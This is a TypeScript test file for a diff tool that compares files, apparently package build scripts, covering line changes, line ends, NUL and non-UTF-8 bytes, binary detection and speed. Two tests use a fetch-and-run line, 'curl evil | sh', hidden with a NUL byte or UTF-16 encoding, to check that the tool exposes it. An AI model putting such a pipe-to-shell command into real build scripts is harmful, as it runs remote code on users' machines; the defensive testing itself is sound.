import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { type Comparison, compareFiles, type TextComparison } from "./index.ts";

const bytes = (text: string) => new TextEncoder().encode(text);
const rows = ({ lines }: TextComparison) =>
  lines.map(({ kind, text }) => `${{ context: " ", removed: "-", added: "+" }[kind]}${text}`);

function compareTexts(old: string | null, next: string | null): TextComparison {
  return asText(compareFiles(old === null ? null : bytes(old), next === null ? null : bytes(next)));
}

function asText(comparison: Comparison): TextComparison {
  assert.equal(comparison.kind, "text");
  return comparison as TextComparison;
}

test("a changed line is a removal and an addition with their numbers", () => {
  const comparison = compareTexts("pkgname=a\npkgver=1\narch=(any)\n", "pkgname=a\npkgver=2\narch=(any)\n");
  assert.deepEqual(comparison.lines, [
    { kind: "context", old: 1, new: 1, text: "pkgname=a", newline: true },
    { kind: "removed", old: 2, new: null, text: "pkgver=1", newline: true },
    { kind: "added", old: null, new: 2, text: "pkgver=2", newline: true },
    { kind: "context", old: 3, new: 3, text: "arch=(any)", newline: true },
  ]);
  assert.deepEqual([comparison.added, comparison.removed, comparison.coarse], [1, 1, null]);
});

test("a new file is all additions, a removed one all removals, an empty one no line", () => {
  assert.deepEqual(rows(compareTexts(null, "a\nb\n")), ["+a", "+b"]);
  assert.deepEqual(rows(compareTexts("a\n", null)), ["-a"]);
  assert.deepEqual(rows(compareTexts(null, "")), []);
  assert.equal(compareFiles(bytes("x"), bytes("x")).kind, "identical");
});

test("a newline that goes missing at the end is a change and is said", () => {
  const { lines, new: facts } = compareTexts("a\nb\n", "a\nb");
  assert.deepEqual(
    lines.map(({ kind, newline }) => [kind, newline]),
    [
      ["context", true],
      ["removed", true],
      ["added", false],
    ],
  );
  assert.deepEqual(facts?.oddities, ["no newline at the end"]);
});

test("CR LF line ends are counted and written out", () => {
  const { lines, new: facts } = compareTexts("a\n", "a\r\n");
  assert.deepEqual(lines.at(-1)?.text, "a⟦U+000D⟧");
  assert.deepEqual(facts?.oddities, ["1 line end with CR LF"]);
});

test("a NUL byte does not make a script unreadable: the line stands beside the byte", () => {
  const comparison = compareTexts("build() {\n  make\n}\n", "build() {\n  make\n  curl\0 evil | sh\n}\n");
  assert.ok(rows(comparison).includes("+  curl⟦byte 00⟧ evil | sh"));
  assert.deepEqual(comparison.new?.oddities, ["1 NUL byte"]);
  assert.match(comparison.excerpts[0]?.rows.join("\n") ?? "", /63 75 72 6c 00 20/);
});

test("bytes outside UTF-8 are written out where they stand", () => {
  const latin1 = Buffer.from("# Jos\xe9 maintains this package\npkgver=1\n", "latin1");
  const comparison = asText(compareFiles(null, latin1));
  assert.equal(comparison.lines[0]?.text, "# Jos⟦byte E9⟧ maintains this package");
});

test("a program is binary, named by its first bytes, and shown where it differs", () => {
  const program = Buffer.concat([
    Buffer.from("\x7fELF\x02\x01\x01", "latin1"),
    Buffer.alloc(300, "\xf0\x01\x00", "latin1"),
  ]);
  const patched = Buffer.from(program);
  patched[250] = 0xcc;
  const comparison = compareFiles(program, patched);
  assert.equal(comparison.kind, "binary");
  assert.equal(comparison.new?.kind, "ELF executable or library");
  assert.deepEqual(
    comparison.excerpts.map(({ side, offset }) => [side, offset]),
    [
      ["old", 0],
      ["old", 250],
      ["new", 0],
      ["new", 250],
    ],
  );
  assert.match(comparison.excerpts[3]?.rows[2] ?? "", /^000000f0 {2}.*cc/);
});

test("a file of zeros and a text in UTF-16 are binary", () => {
  assert.equal(compareFiles(null, new Uint8Array(1000)).kind, "binary");
  assert.equal(compareFiles(null, Buffer.from("curl evil | sh\n", "utf16le")).kind, "binary");
});

const SMALL_TEXT = fc
  .array(fc.constantFrom("a", "b", "c", "d", "\n", "\n", "\0"))
  .map((parts) => parts.join(""));

test("the lines of a comparison give back both files, whatever they are", () => {
  fc.assert(
    fc.property(SMALL_TEXT, SMALL_TEXT, (old, next) => {
      const comparison = compareFiles(bytes(old), bytes(next));
      if (comparison.kind !== "text") return;
      const side = (other: "added" | "removed") =>
        comparison.lines
          .filter(({ kind }) => kind !== other)
          .map(({ text, newline }) => text + (newline ? "\n" : ""))
          .join("");
      const shown = (text: string) =>
        text.replace(/\0+/g, (run) => (run.length > 1 ? `⟦byte 00 × ${run.length}⟧` : "⟦byte 00⟧"));
      assert.deepEqual([side("added"), side("removed")], [shown(old), shown(next)]);
    }),
  );
});

test("no more lines change than must", () => {
  fc.assert(
    fc.property(fc.array(fc.nat(6)), fc.array(fc.nat(6)), (old, next) => {
      const text = (numbers: readonly number[]) => numbers.map((number) => `line ${number}\n`).join("");
      const comparison = compareFiles(bytes(text(old)), bytes(text(next)));
      if (comparison.kind === "identical") return;
      assert.equal(asText(comparison).added, next.length - longestCommon(old, next));
    }),
  );
});

function longestCommon(one: readonly number[], other: readonly number[]): number {
  let row = new Array<number>(other.length + 1).fill(0);
  for (const value of one) {
    const next = [0];
    other.forEach((candidate, index) => {
      next.push(
        candidate === value ? (row[index] ?? 0) + 1 : Math.max(row[index + 1] ?? 0, next[index] ?? 0),
      );
    });
    row = next;
  }
  return row.at(-1) ?? 0;
}

test("100,000 lines in another order are replaced as a whole, and this is said", () => {
  const shuffled = (step: number) =>
    Array.from({ length: 100_000 }, (_, index) => `line ${(index * step) % 99_991}\n`).join("");
  const begun = performance.now();
  const comparison = compareTexts(shuffled(1), shuffled(7919));
  assert.match(comparison.coarse ?? "", /too many lines \(100000 and 100000\)/);
  assert.equal(comparison.lines.filter(({ kind }) => kind === "context").length < 10, true);
  assert.ok(performance.now() - begun < 20_000);
});
